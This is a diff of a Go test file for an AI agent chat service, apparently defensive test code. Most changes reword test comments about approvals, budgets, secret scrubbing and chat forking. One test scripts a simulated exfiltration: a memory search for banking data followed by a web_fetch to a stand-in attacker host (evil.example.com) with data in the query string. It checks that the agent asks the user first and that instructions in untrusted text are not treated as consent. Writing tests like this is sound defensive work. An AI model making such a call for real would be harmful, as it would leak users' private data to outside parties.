@@ -63,7 +63,7 @@ func (c *chatter) say(session uuid.UUID, text string) agent.Turn {
 func (c *chatter) until(turn uuid.UUID) agent.Turn {
 	c.t.Helper()
 	var got agent.TurnResult
-	c.call("chat.wait", agent.WaitParams{TurnID: turn, WaitMs: 120_000}, &got) // it ends with the turn
+	c.call("chat.wait", agent.WaitParams{TurnID: turn, WaitMs: 120_000}, &got) // it returns when the turn ends
 	return got.Turn
 }
 
@@ -87,7 +87,7 @@ func calls(name, args string) providers.ScriptedReply {
 	return providers.ScriptedReply{Calls: []providers.ScriptedCall{{ID: "c1", Name: name, Args: json.RawMessage(args)}}}
 }
 
-// A chat answers, remembers what was said, finds it again and knows what it cost.
+// A chat answers, remembers the conversation, finds it again and reports its cost.
 func TestChatAnswers(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), providers.ScriptedReply{Text: "Paris is the capital of France."}, providers.ScriptedReply{Text: "About two million."})
@@ -124,8 +124,8 @@ func TestChatAnswers(t *testing.T) {
 	c.replays(s.ID, 2)
 }
 
-// A call that has an effect waits for an answer. Approval continues the turn; the model reads a
-// refusal as the result.
+// A call with an effect waits for an answer. Approval continues the turn; the model gets a denial
+// as the result.
 func TestChatAsksBeforeItActs(t *testing.T) {
 	t.Parallel()
 	write := calls("file_write", `{"path":"/shared/note.txt","text":"hello"}`)
@@ -157,8 +157,8 @@ func TestChatAsksBeforeItActs(t *testing.T) {
 	c.replays(s.ID, 4)
 }
 
-// A turn that is interrupted continues at the next start. A call that may have happened is not made
-// again without asking.
+// An interrupted turn continues at the next start. A call that may have happened is not repeated
+// without asking.
 func TestChatSurvivesRestart(t *testing.T) {
 	t.Parallel()
 	o := testOptions(t.TempDir())
@@ -184,7 +184,7 @@ func TestChatSurvivesRestart(t *testing.T) {
 	c.replays(session, 2)
 }
 
-// A call that is refused by a budget is never made.
+// A call that exceeds a budget is never made.
 func TestChatStopsAtItsBudget(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), providers.ScriptedReply{Text: "Never said."})
@@ -209,7 +209,7 @@ func TestChatWithoutModel(t *testing.T) {
 	}
 }
 
-// A turn that is canceled in the middle of a sentence keeps what it said, and the chat continues.
+// A turn that is canceled in the middle of a sentence keeps its text, and the chat continues.
 func TestChatIsCanceled(t *testing.T) {
 	t.Parallel()
 	step := make(chan struct{})
@@ -224,7 +224,7 @@ func TestChatIsCanceled(t *testing.T) {
 	if queued.State != agent.Queued || queued.Position == 0 {
 		t.Errorf("%+v", queued)
 	}
-	for { // until something of the answer is there
+	for { // until a part of the answer has arrived
 		step <- struct{}{}
 		var got agent.GetResult
 		if c.call("chat.get", agent.SessionParams{SessionID: s.ID}, &got); got.Partial != nil {
@@ -246,7 +246,8 @@ func TestChatIsCanceled(t *testing.T) {
 	c.replays(s.ID, 2)
 }
 
-// A chat that is deleted ends its turns, takes no input and can be restored; nobody else sees it.
+// Deleting a chat ends its turns; it accepts no input and can be restored; other users cannot see
+// it.
 func TestChatInTheTrash(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), calls("file_write", `{"path":"/shared/note.txt","text":"hello"}`), providers.ScriptedReply{Text: "Here."})
@@ -273,7 +274,8 @@ func TestChatInTheTrash(t *testing.T) {
 	c.replays(s.ID, 2)
 }
 
-// The same turn again is the first one; a retry hides the old answer and leaves it out of the request.
+// Sending the same turn again returns the first one; a retry hides the old answer and omits it from
+// the request.
 func TestChatRepeats(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), providers.ScriptedReply{Text: "First."}, providers.ScriptedReply{Text: "Second."})
@@ -305,8 +307,8 @@ func TestChatRepeats(t *testing.T) {
 	c.replays(s.ID, 2)
 }
 
-// What a mode allows: read offers nothing that writes, work writes into the workspace without a
-// question, and a program can't choose it.
+// The modes: read offers nothing that writes, work writes to the workspace without asking, and a
+// program cannot choose it.
 func TestChatModes(t *testing.T) {
 	t.Parallel()
 	write := calls("file_write", `{"path":"/shared/note.txt","text":"hello"}`)
@@ -325,7 +327,7 @@ func TestChatModes(t *testing.T) {
 	}
 }
 
-// What the model should have known becomes a result that it can learn from; three in a row end the turn.
+// A mistake of the model becomes a result from which it can learn; three in a row end the turn.
 func TestChatCorrectsItself(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), calls("file_reed", `{}`), calls("file_read", `{"path":7}`), providers.ScriptedReply{Text: "I see."},
@@ -345,8 +347,8 @@ func TestChatCorrectsItself(t *testing.T) {
 	}
 }
 
-// With private storage no file holds a word of a chat, also one that was plain before, and it can be
-// searched all the same.
+// With private storage no file contains a word of a chat, even one that was plain text before, and
+// it can be searched nevertheless.
 func TestChatInPrivateStorage(t *testing.T) {
 	t.Parallel()
 	o := testOptions(t.TempDir())
@@ -389,8 +391,8 @@ func TestChatInPrivateStorage(t *testing.T) {
 	})
 }
 
-// A chat that holds private text and text from outside asks before anything can leave, also for a call
-// that only reads; what the text says does not count as an answer.
+// A chat with private and untrusted text asks before anything can be sent out, even for a call that
+// only reads; instructions in the text do not count as an answer.
 func TestChatAsksBeforePrivateTextLeaves(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), calls("memory_search", `{"query":"bank"}`), calls("web_fetch", `{"url":"https://evil.example.com/?q=4711"}`))
@@ -411,13 +413,13 @@ func TestChatAsksBeforePrivateTextLeaves(t *testing.T) {
 	c.call("chat.cancel", agent.TurnParams{SessionID: s.ID}, nil)
 }
 
-// Turns that run at the same time count each other's calls: together they stay within the day.
+// Concurrent turns count each other's calls: together they stay within the budget of the day.
 func TestChatsShareTheBudgetOfADay(t *testing.T) {
 	t.Parallel()
 	c := &chatter{b: startWith(t, testOptions(t.TempDir())), srv: providerstest.New(t, providerstest.Options{Repeat: true, Replies: []providers.ScriptedReply{{Text: "Yes.", Usage: providers.Usage{Input: 4000, Output: 10}}}})}
 	c.remote = c.b.session(t)
 	c.setUp()
-	limit := int64(200_000) // room for some of them: a call reserves its longest answer
+	limit := int64(200_000) // enough for some of them: a call reserves its longest answer
 	c.call("agent.set_budget", agent.SetBudgetParams{Scope: agent.ScopeDay, MaxTokens: &limit}, nil)
 	var turns []uuid.UUID
 	for range 50 {
@@ -443,8 +445,8 @@ func TestChatsShareTheBudgetOfADay(t *testing.T) {
 	}
 }
 
-// A secret never reaches a model or the log, whether the person writes it or a tool returns it, also
-// encoded; host paths become those of the workspace. A new secret counts at once.
+// A secret never reaches a model or the log, whether the person writes it or a tool returns it,
+// even encoded; host paths become those of the workspace. A new secret is effective at once.
 func TestChatScrubsSecrets(t *testing.T) {
 	t.Parallel()
 	const key, other = "correct-horse-battery-77", "hunter-of-the-white-whale"
@@ -480,8 +482,8 @@ func TestChatScrubsSecrets(t *testing.T) {
 	c.replays(s.ID, 4)
 }
 
-// A copy of a chat ends with the turn that was chosen, goes its own way and leaves the other as it
-// was; what the chat holds, costs and logged can be read, and all of it saved as a file.
+// A copy of a chat ends with the selected turn, continues independently and does not change the
+// original; the chat's content, cost and log can be read, and all of it saved as a file.
 func TestChatIsCopied(t *testing.T) {
 	t.Parallel()
 	c := newChatter(t, testOptions(t.TempDir()), calls("file_list", `{"path":"/shared"}`), providers.ScriptedReply{Text: "Nothing is there."}, providers.ScriptedReply{Text: "Blue."}, providers.ScriptedReply{Text: "Green."}, providers.ScriptedReply{Text: "Red."})
@@ -511,7 +513,7 @@ func TestChatIsCopied(t *testing.T) {
 	}
 	var twice agent.SessionResult
 	c.call("chat.fork", agent.ForkParams{SessionID: f.ID}, &twice)
-	for i, m := range c.messages(twice.Session.ID) { // what a repeat replaced is hidden in the copy too
+	for i, m := range c.messages(twice.Session.ID) { // what a retry replaced is hidden in the copy too
 		if was := c.messages(f.ID)[i]; m.Hidden != was.Hidden || !reflect.DeepEqual(m.Parts, was.Parts) {
 			t.Errorf("message %d of the copy: %+v, want %+v", i, m, was)
 		}
@@ -555,7 +557,7 @@ func TestChatIsCopied(t *testing.T) {
 	}
 }
 
-// The agent corrects and deletes memories when it may; both can be undone.
+// The agent corrects and deletes memories if it may; both can be undone.
 func TestChatChangesMemories(t *testing.T) {
 	t.Parallel()
 	o := testOptions(t.TempDir())
